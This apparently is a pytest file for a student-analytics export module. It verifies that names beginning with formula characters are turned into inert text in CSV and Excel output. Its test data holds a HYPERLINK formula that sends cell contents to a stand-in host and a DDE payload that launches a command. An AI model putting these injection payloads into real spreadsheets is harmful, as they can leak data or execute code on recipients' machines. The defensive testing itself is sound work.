"""Exports never turn user-controlled text (student or cluster names) into live spreadsheet formulas."""

from __future__ import annotations

import io

import openpyxl
import pandas as pd

from jobs.exports import safe_cell, safe_frame

EVIL = ['=HYPERLINK("http://evil.example/?"&A2,"Click")', "+1+1", "-2+3", "@SUM(A1)", "\tx"]


def test_formula_starts_become_text_and_numbers_stay_numbers():
    assert [safe_cell(v) for v in EVIL] == ["'" + v for v in EVIL]
    assert safe_cell("Ana Souza") == "Ana Souza" and safe_cell(-3) == -3 and safe_cell(None) is None
    frame = safe_frame(pd.DataFrame({"name": EVIL, "score": [-1.5, 2, 3, 4, 5]}))
    assert frame["name"].str.startswith("'").all() and frame["score"].tolist() == [-1.5, 2, 3, 4, 5]


def test_excel_cells_read_back_as_text():
    from ui.common import to_csv_bytes, to_excel_bytes

    frame = pd.DataFrame({"fullname": EVIL, "engagement": range(5)})
    book = openpyxl.load_workbook(io.BytesIO(to_excel_bytes(frame)))
    cells = [row[0] for row in book.active.iter_rows(min_row=2)]
    assert all(c.data_type == "s" for c in cells)
    assert "\n=HYPERLINK" not in to_csv_bytes(frame).decode("utf-8-sig")


def test_export_assignments_neutralises_cluster_names(tmp_path):
    from jobs.pipeline import export_assignments

    class Runs:
        def get(self, run_id):
            return {"clusters": [{"cluster_id": 0, "name": "=cmd|' /C calc'!A0", "user_ids": [1, 2]}]}

    class Store:
        runs = Runs()

    out = tmp_path / "a.csv"
    assert export_assignments(Store(), "r", out) == 2
    assert all(row.split(",", 2)[2].startswith("'=") for row in out.read_text().splitlines()[1:])
